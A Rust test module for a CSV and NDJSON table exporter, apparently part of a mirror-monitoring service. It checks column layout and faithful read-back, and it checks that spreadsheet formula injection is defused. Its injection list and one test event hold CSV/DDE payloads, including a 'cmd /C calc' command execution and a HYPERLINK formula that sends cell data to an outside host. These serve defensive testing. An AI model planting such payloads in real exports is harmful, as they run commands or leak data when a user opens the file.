//! What a table says is what its page says: read back by a reader of CSV, value by value.

use super::{Table, TableKind, columns, csv, ndjson};
use crate::domain::incident::{Told, What};
use crate::domain::ledger::capture::WindowFigures;
use crate::domain::mirror_state::State;
use crate::domain::past::Past;
use crate::domain::resolution::Resolution;
use crate::domain::source::SourceIx;
use crate::domain::vantage;
use crate::domain::view::event::Event;
use crate::domain::view::ops::{OpsFilter, Position};
use crate::domain::view::tests::measured;
use crate::domain::view::windows::{self, WindowsQuery};
use crate::domain::view::{
    Picture, compare, coverage, divergence, event, freshness, history, incidents, lag, mirror, misses, ops, overview,
    propagation, rtt, sessions, slo, vantages,
};
use crate::domain::window_kind::WindowKind;
use proptest::prelude::*;
use serde_json::{Value, json};
use std::collections::VecDeque;
use std::sync::Arc;

/// What spreadsheets were made to run by, and what looks like it.
const INJECTIONS: [&str; 16] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "＝1+1",
    "＠SUM(1)",
    "=HYPERLINK(\"https://a.example?x=\"&A1,\"here\")",
    "'=1+1",
    "\"=1+1\"",
    "a\",=1+1,\"b",
    "\r\n=1+1\r\n",
];

fn world() -> Picture {
    let mut picture = measured();
    let event = |id: u64, text: &str, detail| Event {
        id,
        at_ms: 1_700_000_000_000,
        kind: "link_synchronized".to_owned(),
        source: Some("a".to_owned()),
        text: text.to_owned(),
        detail,
    };
    let changed = |event_id, at_ms, from, to| Told {
        event_id: Some(event_id),
        at_ms,
        what: What::Changed {
            mirror: "a".to_owned(),
            from,
            to,
            why: "3 of 100 operations missed".to_owned(),
            untold: 0,
            unseen_since_ms: None,
        },
    };
    picture.changes = Arc::new(VecDeque::from([
        Arc::new(changed(2, 1_700_000_200_000, State::Losing, State::Ok)),
        Arc::new(changed(1, 1_700_000_150_000, State::Ok, State::Losing)),
    ]));
    let events =
        vec![event(2, "=cmd|'/C calc'!A0", Some(json!({ "from": "ok", "deep": [1] }))), event(1, "a, \"b\"\n", None)];
    picture.events = events.into_iter().map(Arc::new).collect();
    picture
}

/// The data of a kind's page in the small world.
fn data(kind: TableKind) -> Value {
    let picture = world();
    let (w, figures): (WindowKind, WindowFigures) =
        picture.capture.windows(true).into_iter().find(|(w, _)| *w == WindowKind::H1).unwrap();
    let filter = OpsFilter { limit: 100, ..OpsFilter::default() };
    let end = picture.capture.held.end();
    match kind {
        TableKind::Overview => overview::page(&picture).0,
        TableKind::Mirrors => mirror::list(&overview::page(&picture).0),
        TableKind::Coverage => coverage::page(&picture, &figures).0,
        TableKind::Lag => lag::page(&picture, &figures).0,
        TableKind::Misses => misses::page(&picture, &figures, 10).0,
        TableKind::History => history::page(&picture, w).0,
        TableKind::Rtt => rtt::page(&picture),
        TableKind::Divergence => divergence::page(&picture),
        TableKind::Events => event::events(&picture),
        TableKind::Ops => ops::page(&picture, &[0, 1], &filter, Position::Row { number: end, mirror: 0 }).data,
        TableKind::Sessions => sessions::page(&picture, SourceIx::mirror(0)).unwrap(),
        TableKind::Compare => compare::page(&picture, [SourceIx::PRIMARY, SourceIx::mirror(1)], w).0,
        TableKind::Slo => slo::page(&picture, &picture.capture.windows(false)).0,
        TableKind::Propagation => propagation::page(&picture, w).0,
        TableKind::Incidents => incidents::page(&picture),
        TableKind::Windows => {
            let query = WindowsQuery { resolution: Resolution::Interval, from_ms: None, to_ms: None };
            windows::page(&picture, 0, &query.stretch(&picture.capture).unwrap(), &Past::default())
        }
        TableKind::LagHistogram => lag::mirror(&picture, 0, &figures).unwrap(),
        TableKind::Freshness => freshness::page(&picture, 0).unwrap(),
        TableKind::MirrorRtt => rtt::mirror(&picture, 0).unwrap(),
        TableKind::MirrorDivergence => divergence::mirror(&picture, 0).unwrap(),
        TableKind::Vantages => vantages::page(&vantage::tests::of_two(), vantage::tests::NOW_MS),
        TableKind::Log => json!({ "actions": [
            { "added": 7, "id": "1 n:a 0", "time": 5, "reasons": ["x"], "from": "=a", "action": { "type": "t/x", "deep": { "n": 1 } } },
        ], "through": 7, "head": 7 }),
    }
}

/// A cell as it is read, without the mark before what looks like a formula.
fn unmarked(cell: &str) -> &str {
    cell.strip_prefix('\'').unwrap_or(cell)
}

fn text(value: &Value) -> String {
    match value {
        Value::Null => String::new(),
        Value::String(text) => text.clone(),
        other => other.to_string(),
    }
}

/// The lines of a CSV: the names, and the cells of each row.
fn read(bytes: &[u8]) -> (Vec<String>, Vec<Vec<String>>) {
    let mut reader = ::csv::ReaderBuilder::new().from_reader(bytes);
    let names = reader.headers().unwrap().iter().map(str::to_owned).collect();
    let rows = reader.records().map(|row| row.unwrap().iter().map(str::to_owned).collect()).collect();
    (names, rows)
}

/// What a reader of both formats gets for each row is the same, and it is what the table has.
fn assert_read_back(table: &Table) {
    let (names, rows) = read(&csv(table).unwrap());
    assert_eq!(names, table.columns);
    assert_eq!(rows.len(), table.rows.len());
    let lines = String::from_utf8(ndjson(table).unwrap()).unwrap();
    let lines: Vec<Value> = lines.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    assert_eq!(lines.len(), table.rows.len());
    for ((cells, line), row) in rows.iter().zip(&lines).zip(&table.rows) {
        assert_eq!(line.as_object().unwrap().len(), names.len());
        for ((cell, name), value) in cells.iter().zip(&names).zip(row) {
            assert_eq!(line[name], *value, "{name}");
            let cell = if value.is_string() { unmarked(cell) } else { cell };
            assert_eq!(cell, text(value), "{name}");
        }
    }
}

/// The value of a column in an object, found from the column's name alone.
fn by_name(object: &Value, column: &str) -> Value {
    let pointer = format!("/{}", column.replace('.', "/"));
    let (path, name) = pointer.rsplit_once('/').unwrap();
    let reason = name.strip_suffix("_reason").and_then(|of| object.pointer(&format!("{path}/reasons/{of}")));
    object.pointer(&pointer).or(reason).cloned().unwrap_or_default()
}

#[test]
fn every_table_has_its_columns_and_nothing_else() {
    for kind in TableKind::ALL {
        let table = Table::of(kind, &data(kind), None);
        let (listed, unlisted) = table.columns.split_at(columns::of(kind).len());
        assert_eq!(unlisted, &[] as &[String], "{kind:?}");
        assert_eq!(listed, columns::of(kind), "{kind:?}");
        assert!(!table.rows.is_empty(), "{kind:?}");
        let mut names = table.columns.clone();
        names.sort();
        names.dedup();
        assert_eq!(names.len(), table.columns.len(), "{kind:?}: a name stands twice");
        assert_read_back(&table);
    }
}

#[test]
fn every_figure_of_a_mirror_stands_under_its_path() {
    for kind in [TableKind::Mirrors, TableKind::Coverage, TableKind::Lag] {
        let data = data(kind);
        let table = Table::of(kind, &data, Some(("2026-11-21T00:00:00.000Z", "2026-11-21T01:00:00.000Z")));
        let mirrors = data["mirrors"].as_array().unwrap();
        assert_eq!(table.rows.len(), mirrors.len());
        for (row, mirror) in table.rows.iter().zip(mirrors) {
            for (column, value) in table.columns.iter().zip(row) {
                match column.as_str() {
                    "primary_ops" => assert_eq!(*value, data["primary_ops"]),
                    "window.from_at" => assert_eq!(*value, "2026-11-21T00:00:00.000Z"),
                    "window.to_at" => assert_eq!(*value, "2026-11-21T01:00:00.000Z"),
                    _ => assert_eq!(*value, by_name(mirror, column), "{column}"),
                }
            }
        }
    }
    let column = |table: &Table, name: &str| {
        let at = table.columns.iter().position(|column| column == name).unwrap();
        table.rows.iter().map(|row| row[at].clone()).collect::<Vec<_>>()
    };
    let lag = Table::of(TableKind::Lag, &data(TableKind::Lag), None);
    let nulls = column(&lag, "lag.p999_ms").into_iter().zip(column(&lag, "lag.p999_ms_reason"));
    for (value, reason) in nulls {
        assert!(value.is_null() && (reason == "low_n" || reason == "no_data"), "{value} {reason}");
    }
}

#[test]
fn facts_below_others_have_all_that_stands_above_them() {
    let misses = data(TableKind::Misses);
    let table = Table::of(TableKind::Misses, &misses, None);
    let at = |name: &str| table.columns.iter().position(|column| column == name).unwrap();
    let ops: Vec<(&Value, &Value, &Value)> = misses["mirrors"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|mirror| mirror["dids"].as_array().unwrap().iter().map(move |did| (mirror, did)))
        .flat_map(|(mirror, did)| did["ops"].as_array().unwrap().iter().map(move |op| (mirror, did, op)))
        .collect();
    assert!(ops.len() >= 3);
    let listed = table.rows.iter().filter(|row| !row[at("cid")].is_null());
    for (row, (mirror, did, op)) in listed.zip(&ops) {
        assert_eq!(row[at("mirror.missed")], mirror["missed"]);
        assert_eq!(row[at("did.did")], did["did"]);
        assert_eq!((&row[at("cid")], &row[at("verdict")]), (&op["cid"], &op["verdict"]));
    }
    let empty: Vec<_> = table.rows.iter().filter(|row| row[at("cid")].is_null()).collect();
    assert_eq!(table.rows.len(), ops.len() + empty.len());
    assert!(empty.iter().any(|row| row[at("mirror.id")] == "b" && row[at("mirror.missed")] == 0), "b has no misses");
}

#[test]
fn series_are_turned_and_ages_are_rows() {
    let history = data(TableKind::History);
    let table = Table::of(TableKind::History, &history, None);
    let at = |table: &Table, name: &str| table.columns.iter().position(|column| column == name).unwrap();
    let times = history["t_unix_ms"].as_array().unwrap();
    assert_eq!(table.rows.len(), 2 * times.len());
    for (n, row) in table.rows.iter().enumerate() {
        let (mirror, i) = (&history["mirrors"][n / times.len()], n % times.len());
        assert_eq!((&row[at(&table, "t_unix_ms")], &row[at(&table, "id")]), (&times[i], &mirror["id"]));
        for name in ["missed", "coverage_ratio", "lag_p50_ms", "status"] {
            assert_eq!(row[at(&table, name)], mirror[name][i], "{name}");
        }
        assert_eq!(row[at(&table, "primary.ops")], history["primary"]["ops"][i]);
        assert_eq!(row[at(&table, "impaired")], history["impaired"][i]);
    }
    let divergence = data(TableKind::Divergence);
    let table = Table::of(TableKind::Divergence, &divergence, None);
    let ages = divergence["age_ge_s"].as_array().unwrap();
    assert_eq!(table.rows.len(), 2 * ages.len());
    for (n, row) in table.rows.iter().enumerate() {
        let (mirror, i) = (&divergence["mirrors"][n / ages.len()], n % ages.len());
        assert_eq!(row[at(&table, "age_ge_s")], ages[i]);
        assert_eq!(row[at(&table, "extra_ops")], mirror["extra_ops"][i]);
    }
}

/// What a column of a table has in its rows.
fn column(table: &Table, name: &str) -> Vec<Value> {
    let at = table.columns.iter().position(|column| column == name).unwrap();
    table.rows.iter().map(|row| row[at].clone()).collect()
}

#[test]
fn the_columns_of_one_mirror_are_turned_and_nothing_is_left_out() {
    for (kind, below, index) in [
        (TableKind::Windows, None, "t_unix_ms"),
        (TableKind::LagHistogram, Some("histogram"), "count"),
        (TableKind::Freshness, Some("series"), "t_unix_ms"),
        (TableKind::MirrorRtt, Some("series"), "t_unix_ms"),
        (TableKind::MirrorDivergence, None, "age_ge_s"),
    ] {
        let data = data(kind);
        let columns = below.map_or(&data, |name| &data[name]);
        let table = Table::of(kind, &data, None);
        let entries = columns[index].as_array().unwrap();
        assert!(!entries.is_empty() && table.rows.len() == entries.len(), "{kind:?}: {} rows", table.rows.len());
        for (name, member) in columns.as_object().unwrap() {
            let is_of_its_own = matches!(name.as_str(), "findings" | "sample_differences" | "content" | "samples");
            match member {
                _ if kind == TableKind::MirrorDivergence && is_of_its_own => {}
                Value::Array(members) => assert_eq!(column(&table, name), *members, "{kind:?} {name}"),
                other => assert!(column(&table, name).iter().all(|cell| cell == other), "{kind:?} {name}"),
            }
        }
        assert!(column(&table, "id").iter().all(|id| id == "a"), "{kind:?}");
    }
    let lag = data(TableKind::LagHistogram);
    let table = Table::of(TableKind::LagHistogram, &lag, None);
    assert!(column(&table, "lag.p50_ms").iter().all(|cell| *cell == lag["lag"]["p50_ms"] && !cell.is_null()));
    let windows = Table::of(TableKind::Windows, &data(TableKind::Windows), None);
    assert_eq!(column(&windows, "at").last().unwrap(), "2023-11-14T22:15:00.000Z");
}

#[test]
fn how_operations_spread_is_a_row_for_each_number_of_mirrors_and_instant() {
    let data = data(TableKind::Propagation);
    let table = Table::of(TableKind::Propagation, &data, None);
    let (curves, instants) = (data["by_mirrors"].as_array().unwrap(), data["at_s"].as_array().unwrap());
    assert!(curves.len() == 2 && table.rows.len() == curves.len() * instants.len());
    let spread = |of: &dyn Fn(&Value, usize) -> Value| -> Vec<Value> {
        curves.iter().flat_map(|curve| (0..instants.len()).map(move |i| of(curve, i))).collect()
    };
    assert_eq!(column(&table, "at_s"), spread(&|_, i| instants[i].clone()));
    assert_eq!(column(&table, "by_mirrors.op_ratio"), spread(&|curve, i| curve["op_ratio"][i].clone()));
    assert_eq!(column(&table, "by_mirrors.mirrors"), spread(&|curve, _| curve["mirrors"].clone()));
    assert_eq!(column(&table, "by_mirrors.p99_ms_reason"), spread(&|curve, _| curve["reasons"]["p99_ms"].clone()));
    assert_eq!(column(&table, "mean_mirror_ratio"), spread(&|_, i| data["mean_mirror_ratio"][i].clone()));
    assert!(column(&table, "ops_used").iter().all(|cell| *cell == data["ops_used"]));
    assert!(column(&table, "mirrors").iter().all(|cell| *cell == json!(["a", "b"])));
}

#[test]
fn an_objective_is_a_row() {
    let data = data(TableKind::Slo);
    let table = Table::of(TableKind::Slo, &data, None);
    let mirrors = data["mirrors"].as_array().unwrap();
    let objectives: Vec<&Value> = mirrors.iter().flat_map(|m| m["objectives"].as_array().unwrap()).collect();
    assert_eq!((table.rows.len(), objectives.len()), (4, 4));
    for name in ["slo", "ops", "fault_ops", "budget_left_ratio", "budget_left_ratio_reason", "burn_rates.1h"] {
        let expected: Vec<Value> = objectives.iter().map(|objective| by_name(objective, name)).collect();
        assert_eq!(column(&table, name), expected, "{name}");
    }
    assert_eq!(column(&table, "id"), ["a", "a", "b", "b"]);
}

#[test]
fn an_incident_is_a_row() {
    let data = data(TableKind::Incidents);
    let table = Table::of(TableKind::Incidents, &data, None);
    let incidents = data["incidents"].as_array().unwrap();
    assert_eq!((incidents.len(), table.rows.len()), (1, 1));
    for (name, member) in incidents[0].as_object().unwrap() {
        assert_eq!(column(&table, name)[0], *member, "{name}");
    }
    assert_eq!(column(&table, "truncated"), [data["truncated"].clone()]);
}

#[test]
fn two_hosts_are_two_sides() {
    let data = data(TableKind::Compare);
    let table = Table::of(TableKind::Compare, &data, None);
    let at = |name: &str| table.columns.iter().position(|column| column == name).unwrap();
    for side in ["a", "b"] {
        let rows: Vec<_> = table.rows.iter().filter(|row| row[at("side")] == side).collect();
        let only = data[format!("only_{side}")].as_array().unwrap();
        assert_eq!(rows.len(), only.len().max(1));
        for row in rows {
            assert_eq!(row[at("host")], data[side]);
            assert_eq!(row[at("only_ops")], data[format!("only_{side}_ops")]);
            assert_eq!(row[at("pending_ops")], data["pending_ops"][side]);
            assert_eq!((&row[at("both_ops")], &row[at("lead.n")]), (&data["both_ops"], &data["lead"]["n"]));
        }
    }
    assert!(table.rows.iter().any(|row| !row[at("cid")].is_null()));
}

#[test]
fn what_is_not_there_is_a_line_of_names() {
    for kind in TableKind::ALL {
        let table = Table::of(kind, &Value::Null, None);
        let lines = csv(&table).unwrap();
        let lines = String::from_utf8(lines).unwrap();
        assert_eq!(lines.split("\r\n").next().unwrap(), columns::of(kind).join(","), "{kind:?}");
        assert!(lines.ends_with("\r\n") && !lines.replace("\r\n", "").contains(['\r', '\n']));
        let hostile = json!({ "mirrors": 5, "ops": "x", "events": {}, "t_unix_ms": [null], "primary": [] });
        assert_read_back(&Table::of(kind, &hostile, None));
    }
}

#[test]
fn a_text_is_never_a_formula_and_a_number_stays_one() {
    for hostile in INJECTIONS {
        let table = Table {
            columns: vec!["text".to_owned(), "number".to_owned(), "json".to_owned()],
            rows: vec![vec![hostile.into(), json!(-1.5), json!([hostile])]],
        };
        let (_, rows) = read(&csv(&table).unwrap());
        assert!(
            !rows[0][0].starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠']),
            "{hostile:?}"
        );
        assert_eq!(unmarked(&rows[0][0]), hostile);
        assert_eq!(rows[0][1], "-1.5");
        assert_read_back(&table);
    }
    let plain = Table { columns: vec!["text".to_owned()], rows: vec![vec!["did:plc:x".into()], vec![Value::Null]] };
    assert_eq!(csv(&plain).unwrap(), b"text\r\ndid:plc:x\r\n\"\"\r\n");
}

fn value() -> impl Strategy<Value = Value> {
    let text = prop_oneof![
        "\\PC{0,12}".prop_map(Value::from),
        "[=+\\-@'\"\t\r\n\u{0};, a]{0,6}".prop_map(Value::from),
        (0..INJECTIONS.len()).prop_map(|i| Value::from(INJECTIONS[i])),
    ];
    prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::from),
        any::<i64>().prop_map(Value::from),
        any::<u64>().prop_map(Value::from),
        (-1e6..1e6).prop_map(crate::domain::view::round6).prop_map(Value::from),
        text.clone(),
        text.prop_map(|text| json!([text, 1])),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn whatever_a_table_holds_is_read_back(
        columns in proptest::collection::btree_set("[a-z][a-z._]{0,8}", 1..6),
        cells in proptest::collection::vec(value(), 0..40),
    ) {
        let columns: Vec<String> = columns.into_iter().collect();
        let rows = cells.chunks_exact(columns.len()).map(<[Value]>::to_vec).collect();
        assert_read_back(&Table { columns, rows });
    }

    #[test]
    fn no_page_however_shaped_breaks_a_table(
        name in "(mirrors|ops|events|sessions|actions|dids|only_a)",
        rows in proptest::collection::vec(proptest::collection::btree_map("[a-z]{1,4}", value(), 0..4), 0..5),
    ) {
        let data = json!({ (name): rows, "t_unix_ms": [0, 1], "age_ge_s": [1] });
        for kind in TableKind::ALL {
            assert_read_back(&Table::of(kind, &data, Some(("a", "b"))));
        }
    }
}
